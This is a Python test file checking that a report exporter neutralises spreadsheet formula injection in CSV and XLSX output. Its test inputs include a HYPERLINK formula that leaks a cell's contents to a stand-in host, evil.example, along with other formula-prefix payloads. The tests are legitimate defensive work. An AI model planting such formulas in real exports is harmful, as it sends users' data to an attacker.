"""Texts in the LBF report files cannot run as formulas (OWASP CSV injection), in CSV and in XLSX."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from backend import report
from backend.models import ActivityStatus, FinancingParty, IndicatorDirection

# What a spreadsheet program would run: each first character that starts a formula.
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B1,"Se detaljer")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def _data(text: str) -> report.AnnualReportData:
    """A report whose every free text (plan, goal, indicator, unit, activity, milestone) is `text`."""
    data = report.AnnualReportData(plan_id=1, plan_name=text, year=2025)
    data.financing.append(
        report.FinancingLine(1, FinancingParty.LANDSBYGGEFONDEN, Decimal("75"), Decimal("1"), Decimal("0"))
    )
    data.indicators.append(
        report.IndicatorLine(1, 1, text, text, text, IndicatorDirection.DECREASE, -2.5, -3.0, -2.75, date(2025, 6, 30))
    )
    data.activities.append(report.ActivityLine(1, text, ActivityStatus.ACTIVE, 2, 7))
    data.milestones_next_year.append(text)
    return data


@pytest.mark.parametrize(
    "dialect, delimiter, minus_two_and_a_half", [("excel-da", ";", "-2,5"), ("rfc4180", ",", "-2.5")]
)
@pytest.mark.parametrize("text", HOSTILE)
def test_csv_neutralises_every_text_cell(text, dialect, delimiter, minus_two_and_a_half):
    raw = report.to_csv(_data(text), dialect=dialect).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter))
    cells = [c for r in rows for c in r]
    assert cells.count("'" + text) == 6, rows  # plan (title row), goal, indicator, unit, activity, milestone
    assert text not in cells
    assert not [c for c in cells if c and c[0] in "=+@\t\r"], rows
    # Numbers are numbers, not neutralised text: a negative baseline stays a negative number.
    goal_row = next(r for r in rows if r[:3] == ["'" + text] * 3)
    assert minus_two_and_a_half in goal_row and not [c for c in goal_row if c.startswith("'-2")], goal_row


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_writes_every_text_as_a_string_never_a_formula(text):
    wb = load_workbook(io.BytesIO(report.to_xlsx(_data(text))))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    stored = text.replace("\r", "\n")  # XML reads a carriage return back as a line feed
    texts = [c for c in cells if c.value == stored]
    # goal, indicator, unit, activity, milestone, and the plan's name in each sheet's title row
    assert len(texts) == 5 + len(wb.worksheets), [c.value for c in cells]
    assert all(c.data_type == "s" and c.quotePrefix for c in texts)
    measured = [c for c in wb["Målopfyldelse"]["E"] if isinstance(c.value, (int, float))]
    assert measured and measured[0].value == -2.5 and measured[0].data_type == "n"


def test_an_error_code_looking_text_is_a_string_too():
    wb = load_workbook(io.BytesIO(report.to_xlsx(_data("#REF!"))))
    assert [c.data_type for c in wb["Aktiviteter"]["A"] if c.value == "#REF!"] == ["s"]
